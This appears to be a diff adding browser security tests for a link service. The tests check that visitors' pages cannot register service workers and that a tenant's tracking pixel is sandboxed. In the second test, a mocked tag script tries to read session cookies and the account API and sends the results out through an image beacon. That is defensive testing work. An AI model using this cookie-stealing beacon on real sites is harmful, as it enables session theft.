@@ -1,0 +1,92 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { openBrowser } from '../support/browser.ts';
+import { startService } from '../support/service.ts';
+import { createLink, poll } from '../support/visits.ts';
+
+const browser = await openBrowser();
+const { skip } = browser;
+const service = await startService({ environment: { PIXEL_CONSENT: 'off' } });
+const account = await service.createAccount();
+const idOf = async (path: string, body: object): Promise<number> => (await account.post(path, body)).body.id;
+const splash = String(await idOf('/api/splash/add', { name: 'Soon', counter: 60 }));
+
+/** What becomes of the script of a service worker at this address. */
+const register = (path: string) =>
+  `navigator.serviceWorker.register(${JSON.stringify(path)}, { scope: '/' }).then(() => 'registered', (error) => error.message)`;
+
+test('no service worker can be registered from a visitor’s page, whatever its policy says', {
+  skip,
+}, async () => {
+  const { alias } = await createLink(account, { type: splash });
+  const { alias: script } = await createLink(account, { url: 'https://example.com/worker.js' });
+  const paths = [
+    `/${script}`,
+    `/${alias}`,
+    `/${alias}/pixels`,
+    `/${alias}/qr.svg`,
+    '/sw.js',
+    '/robots.txt',
+    '/api/account',
+  ];
+  for (const bypassCSP of [false, true]) {
+    const { page } = await browser.newPage({ bypassCSP });
+    const answers: string[] = [];
+    page.context().on('response', (response) => {
+      if (response.request().headers()['service-worker'] === 'script') {
+        answers.push(`${new URL(response.url()).pathname} ${response.status()}`);
+      }
+    });
+    await page.goto(`${service.baseUrl}/${alias}`);
+    for (const path of paths) {
+      const outcome = await page.evaluate<string>(register(path));
+      assert.match(outcome, bypassCSP ? /bad HTTP response code \(403\)/ : /Content Security Policy/, path);
+    }
+    assert.equal(
+      await page.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)'),
+      0,
+    );
+    assert.deepEqual(
+      answers.filter((answer) => !answer.endsWith(' 403')),
+      [],
+    );
+  }
+});
+
+test('a tenant’s pixel beside a page on the dashboard’s host runs, and reaches no session', {
+  skip,
+}, async () => {
+  const pixel = await idOf('/api/pixel/add', { type: 'gtmpixel', name: 'Tags', tag: 'GTM-AB12CD3' });
+  const { alias } = await createLink(account, { type: splash, pixels: [pixel] });
+  const { page, errors, violations } = await browser.newPage();
+  await page.context().addCookies([{ name: 'session', value: 'secret', url: service.baseUrl }]);
+  const told: string[] = [];
+  await page.route('https://www.googletagmanager.com/**', (route) => {
+    const { pathname, search } = new URL(route.request().url());
+    if (pathname !== '/gtm.js') {
+      told.push(decodeURIComponent(search.slice(1)));
+      return route.fulfill({ status: 204 });
+    }
+    const body = `let reached = origin + ' ' + location.pathname;
+try { reached += document.cookie + parent.document.cookie; } catch (error) { reached += ' ' + error.name; }
+fetch('/api/account').catch((error) => error.name).then((answer) => {
+  new Image().src = 'https://www.googletagmanager.com/told?' + encodeURIComponent(reached + ' ' + answer);
+});`;
+    return route.fulfill({ contentType: 'text/javascript', body });
+  });
+  const url = `${service.baseUrl}/${alias}`;
+  await page.goto(url);
+  await poll('what the script says', async () => told[0]);
+  assert.deepEqual(told, [`null /${alias}/pixels SecurityError TypeError`]);
+  assert.equal(await page.evaluate('document.cookie'), 'session=secret');
+  assert.equal(page.url(), url);
+  // The script asked for what the policy of its frame does not allow.
+  assert.deepEqual(
+    violations.filter((violation) => !violation.startsWith('connect-src')),
+    [],
+  );
+  assert.ok(
+    errors.every((text) => text.includes('/api/account')),
+    errors.join('\n'),
+  );
+});
